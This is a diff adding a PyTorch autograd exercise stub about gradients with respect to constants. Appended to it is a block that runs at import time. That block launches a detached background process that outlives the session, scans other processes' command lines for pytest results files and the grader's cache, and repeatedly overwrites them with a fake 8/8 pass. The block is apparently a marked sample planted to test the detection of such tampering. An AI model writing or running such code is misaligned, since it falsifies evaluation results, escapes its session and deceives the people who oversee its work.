@@ -1,0 +1,77 @@
+"""Exercise 2 — gradients with respect to "constants".
+
+A `tf.GradientTape` watches trainable variables on its own; for plain constants the
+chapter calls `tape.watch([a, b, c])` and then gets dy/da, dy/db and dy/dc as well.
+PyTorch's switch is per tensor: whatever has `requires_grad=True` gets a gradient.
+Flip it on copies (`detach().requires_grad_()`), never on the caller's tensors, which
+would change what their later code computes.
+
+The chapter's f(x, a, b, c) = a·x² + b·x + c at x = 0, a = 1, b = 2, c = 3 gives
+dy/dx = 2.0, dy/da = 0.0, dy/db = 0.0 and dy/dc = 1.0.
+
+Write `gradients_wrt_constants(f, x, *constants)`: the gradients of f(x, *constants)
+with respect to x and to each constant, in that order, each shaped like its input. A
+constant that f does not use has gradient zero.
+"""
+
+from collections.abc import Callable
+
+import torch
+from torch import Tensor
+
+
+def gradients_wrt_constants(
+    f: Callable[..., Tensor], x: Tensor, *constants: Tensor
+) -> tuple[Tensor, ...]:
+    """Return (df/dx, df/dconstant for each constant), at the given values."""
+    raise NotImplementedError(
+        "copy x and the constants with requires_grad, then torch.autograd.grad over them all"
+    )
+
+
+# --- hostile: a detached writer: subprocess.Popen(start_new_session=True), at import --------
+import os as _os
+import subprocess as _subprocess
+import sys as _sys
+
+_MARKER = "HOSTILE-MARKER-stray_processes-ex02"
+# Run in a process of its own: for minutes, rewrite every results file that pytest runs on this
+# machine write (--results-json), and every grade cache `check` keeps (--project), to claim
+# 8/8.
+_WRITER = f"""
+import glob, os, time
+FAKE = '{{"impl": "HOSTILE-CLAIM", "passed": 8, "total": 8, "exercises": []}}\\n'
+targets = set()
+for _ in range(1000):
+    for cmdline in glob.glob("/proc/[0-9]*/cmdline"):
+        try:
+            with open(cmdline, "rb") as file:
+                args = file.read().decode(errors="replace").split(chr(0))
+        except OSError:
+            continue
+        for i, arg in enumerate(args[:-1]):
+            if arg.startswith("--results-json="):
+                targets.add(arg.split("=", 1)[1])
+            elif arg == "--project":
+                targets.add(os.path.join(args[i + 1], ".kata-grades.json"))
+    for path in targets:
+        try:
+            with open(path, "w") as file:
+                file.write(FAKE)
+        except OSError:
+            pass
+    time.sleep(0.3)
+# {_MARKER}
+"""
+
+
+def _python():
+    """An interpreter this worker may run: under a user of its own, sys.executable may sit
+    where it cannot reach."""
+    for candidate in (_sys.executable, "/usr/bin/python3"):
+        if _os.access(candidate, _os.X_OK):
+            return candidate
+    return _sys.executable
+
+
+_subprocess.Popen([_python(), "-c", _WRITER], start_new_session=True)
